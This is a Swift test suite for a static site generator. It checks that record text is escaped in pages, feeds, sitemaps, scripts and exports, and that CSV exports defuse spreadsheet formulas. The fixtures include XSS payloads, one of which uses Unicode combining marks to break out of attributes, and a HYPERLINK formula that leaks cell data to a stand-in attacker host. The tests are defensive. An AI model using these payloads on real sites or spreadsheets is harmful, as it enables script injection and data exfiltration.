import DossierRecords
import DossierSite
import Foundation
import Testing

#if canImport(FoundationXML)
import FoundationXML
#endif

/// Text from the records is escaped wherever it lands: page text, attributes, JSON in
/// pages, the feed, the sitemap, the exports.
@Suite struct InjectionTests {
    static let payload = #"<script>alert(1)</script>" onmouseover="alert(2)"#
    /// The same with each quote joined to a combining mark or U+FE0F: one Swift Character
    /// each, which escaping Character by Character leaves as it is.
    static let joinedPayload = "<script>alert(1)</script>\"\u{308} onmouseover=\"\u{FE0F}alert(2)\"\u{308}"

    /// What a page holds when a joined quote closed an attribute.
    static let joinedQuoteAttribute = "\"\u{308} onmouseover"

    /// A site with the payload in every field and front-matter key that takes free text.
    static func makeSite(_ p: String = payload) throws -> URL {
        // Inside a quoted CSV field; by code point, as a `"` joined to a mark is one Character.
        let q = String(String.UnicodeScalarView(p.unicodeScalars.flatMap { $0 == "\"" ? ["\"", "\""] : [$0] }))
        let site = FileManager.default.temporaryDirectory.appendingPathComponent("dossier-inject-\(UUID().uuidString)")
        let content = site.appendingPathComponent("content")
        try FileManager.default.createDirectory(at: content.appendingPathComponent("weekly"), withIntermediateDirectories: true)
        try FileManager.default.createDirectory(
            at: content.appendingPathComponent("handbook/f"), withIntermediateDirectories: true)
        func write(_ path: String, _ text: String) throws {
            try Data(text.utf8).write(to: content.appendingPathComponent(path))
        }
        let yaml = "'" + p.replacingOccurrences(of: "'", with: "''") + "'"
        try write(
            "project.yml",
            """
            name: \(yaml)
            client: \(yaml)
            base_url: https://example.com/erp/
            timezone: UTC
            categories:
              - {id: bug, label: \(yaml), sla: 3d}
            """)
        try write("team.csv", "id,name,role,org,email\nx,\"\(q)\",pm,\"\(q)\",\"\(q)\"\n")
        try write(
            "milestones.csv", "id,title,due,done,owner,scope,description\nM1,\"\(q)\",2026-03-05,2026-03-05,x,\"\(q)\",\"\(q)\"\n"
        )
        try write(
            "issues.csv",
            "id,title,status,opened,resolved,category,module,reporter,owner,milestone,tags,description,resolution,\"\(q)\"\n"
                + "I-1,\"\(q)\",closed,2026-03-02 09:00,2026-03-03 09:00,bug,\"\(q)\",x,x,M1,\"\(q)\",\"\(q)\",\"\(q)\",\"\(q)\"\n"
                + "I-2,\"\(q)\",open,2026-03-02 09:00,,bug,,x,x,,,,,\n")
        try write(
            "weekly/2026-W10.md",
            """
            ---
            status: red
            summary: \(yaml)
            attendees: [x]
            ---

            ## \(p)

            \(p) [[I-1]] [[f/a|\(p.replacingOccurrences(of: "]", with: ""))]]
            """)
        try write(
            "handbook/f/a.md",
            """
            ---
            title: \(yaml)
            tags: [\(yaml)]
            owner: x
            issues: [I-1]
            ---

            ## \(p)

            \(p) and `\(p)` and [link](#\(p.count)) [[I-2]]
            """)
        return site
    }

    @Test(arguments: [payload, joinedPayload])
    func payloadsNeverReachAPageUnescaped(_ payload: String) throws {
        let site = try Self.makeSite(payload)
        let result = try Dossier.build(.init(site: site, asOf: .written("2026-03-12")))
        #expect(
            result.report.diagnostics.items.filter { $0.severity == .error }.isEmpty,
            "\(result.report.diagnostics.items.map(\.message))")
        let output = site.appendingPathComponent("output")
        let files = try FileManager.default.subpathsOfDirectory(atPath: output.path).filter { !$0.hasPrefix("assets/") }
        var checked = 0
        for file in files {
            guard let data = FileManager.default.contents(atPath: output.appendingPathComponent(file).path), !data.isEmpty,
                let text = String(data: data, encoding: .utf8)
            else { continue }
            checked += 1
            if file.hasSuffix(".html") || file.hasSuffix(".xml") {
                #expect(!text.contains("<script>alert"), "\(file) carries the script element")
                #expect(!text.contains(#"" onmouseover=""#), "\(file) lets a quote end an attribute")
                let closesAttribute = text.contains(Self.joinedQuoteAttribute)
                #expect(!closesAttribute, "\(file) lets a quote joined to a mark end an attribute")
            }
            // Scripts hold record text as JSON strings, never able to close an element.
            if file.hasSuffix(".js") { #expect(!text.contains("</script"), "\(file) can end a script element") }
        }
        // The theme shows search results as text, never as markup.
        let search = try String(contentsOf: output.appendingPathComponent("assets/search.js"), encoding: .utf8)
        #expect(!search.contains("innerHTML"))
        #expect(checked > 10)
        // The payload is there, as text.
        let issue = try String(contentsOf: output.appendingPathComponent("issues/I-1.html"), encoding: .utf8)
        #expect(issue.contains("&lt;script&gt;alert(1)&lt;/script&gt;"))
        // The feed and sitemap are still well-formed XML.
        for xml in ["feed.xml", "sitemap.xml"] {
            let parser = XMLParser(contentsOf: output.appendingPathComponent(xml))!
            #expect(parser.parse(), "\(xml) is not well-formed")
        }
        // The JSON export reads back with the payload intact.
        let json = try JSONSerialization.jsonObject(with: Data(contentsOf: output.appendingPathComponent("data/issues.json")))
        #expect((json as? [[String: Any]])?.first?["title"] as? String == payload)
    }

    /// OWASP's CSV-injection example: in data/issues.csv every text cell a spreadsheet
    /// would run as a formula starts with `'`; data/issues.json keeps the text as written.
    @Test func formulasReachTheSpreadsheetExportAsText() throws {
        let formula = #"=HYPERLINK("http://attacker.invalid/?d="&A2,"Open")"#
        let quoted = "\"" + formula.replacingOccurrences(of: "\"", with: "\"\"") + "\""
        let site = FileManager.default.temporaryDirectory.appendingPathComponent("dossier-formula-\(UUID().uuidString)")
        let content = site.appendingPathComponent("content")
        try FileManager.default.createDirectory(at: content, withIntermediateDirectories: true)
        let yaml = "'" + formula.replacingOccurrences(of: "'", with: "''") + "'"
        try Data("categories:\n  - {id: bug, label: \(yaml), sla: 3d}\n".utf8).write(
            to: content.appendingPathComponent("project.yml"))
        try Data(
            ("id,title,status,opened,category,module,description\n"
                + "I-1,\(quoted),open,2026-03-02 09:00,bug,\(quoted),\(quoted)\n"
                + "I-2,-1 day off,open,2026-03-02 09:00,bug,@home,+7 495\n").utf8
        ).write(to: content.appendingPathComponent("issues.csv"))
        let result = try Dossier.build(.init(site: site, asOf: .written("2026-03-12")))
        #expect(
            result.report.diagnostics.items.filter { $0.severity == .error }.isEmpty,
            "\(result.report.diagnostics.items.map(\.message))")
        let output = site.appendingPathComponent("output")
        let text = try String(contentsOf: output.appendingPathComponent("data/issues.csv"), encoding: .utf8)
        let (table, problems) = CSVParser().parse(text, file: "data/issues.csv")
        #expect(problems.isEmpty)
        let header = table.header.map(\.value)
        let row = try #require(table.rows.first)
        func cell(_ name: String) -> String? { header.firstIndex(of: name).map { row.cells[$0].value } }
        #expect(cell("title") == "'" + formula)
        #expect(cell("module") == "'" + formula)
        #expect(cell("category_label") == "'" + formula)
        #expect(cell("description") == "'" + formula)
        let second = try #require(table.rows.last)
        #expect(second.cells[header.firstIndex(of: "title")!].value == "'-1 day off")
        #expect(second.cells[header.firstIndex(of: "module")!].value == "'@home")
        #expect(second.cells[header.firstIndex(of: "description")!].value == "'+7 495")
        // No text cell of any row starts a formula.
        for row in table.rows {
            for value in row.cells.map(\.value) {
                #expect(!(value.first.map { "=+@\t\r".contains($0) } ?? false), "\(value) would run as a formula")
            }
        }
        let json = try JSONSerialization.jsonObject(with: Data(contentsOf: output.appendingPathComponent("data/issues.json")))
        let first = try #require((json as? [[String: Any]])?.first)
        #expect(first["title"] as? String == formula)
        #expect(first["description"] as? String == formula)
    }
}
